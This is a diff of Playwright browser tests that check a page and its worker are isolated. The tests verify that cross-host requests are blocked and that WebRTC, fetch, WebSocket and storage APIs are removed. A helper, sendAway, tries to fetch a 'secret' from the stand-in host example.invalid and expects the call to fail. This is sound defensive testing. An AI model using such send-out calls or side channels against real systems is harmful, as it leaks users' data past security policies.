@@ -56,13 +56,17 @@ test("the page is isolated from other sites", async ({ page }) => {
 test("nothing can be sent to another host", async ({ page, complaints }) => {
   complaints.expect(/example\.invalid/);
   await page.goto("/");
-  const sent = await page.evaluate(() =>
-    fetch("https://example.invalid/?secret").then(
-      () => "sent",
-      () => "stopped",
+  expect(await page.evaluate(sendAway)).toBe("stopped");
+});
+
+test("the page has no way to call another computer past the policy", async ({ page }) => {
+  await page.goto("/");
+  const left = await page.evaluate(() =>
+    ["RTCPeerConnection", "webkitRTCPeerConnection", "RTCDataChannel"].filter(
+      (name) => name in window,
     ),
   );
-  expect(sent).toBe("stopped");
+  expect(left).toEqual([]);
 });
 
 test("a string cannot become HTML, and a foreign script cannot start a worker", async ({
@@ -98,11 +102,18 @@ test("our worker has lost every way to send or keep data", async ({ page }) => {
   const left = () =>
     worker.evaluate(() =>
       ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts"]
-        .concat("indexedDB", "caches", "Worker", "BroadcastChannel")
-        .filter((name) => Reflect.get(globalThis, name) !== undefined),
+        .concat("indexedDB", "caches", "Worker", "BroadcastChannel", "webkitRequestFileSystemSync")
+        .filter((name) => Reflect.get(globalThis, name) !== undefined)
+        .concat(["storage", "storageBuckets"].filter((name) => name in navigator)),
     );
   await expect.poll(left).toEqual([]);
 });
+
+const sendAway = (): Promise<string> =>
+  fetch("https://example.invalid/?secret").then(
+    () => "sent",
+    () => "stopped",
+  );
 
 /** Everything that arrives until the page has been quiet for a while. */
 async function responsesWhileOpening(page: Page): Promise<readonly Response[]> {
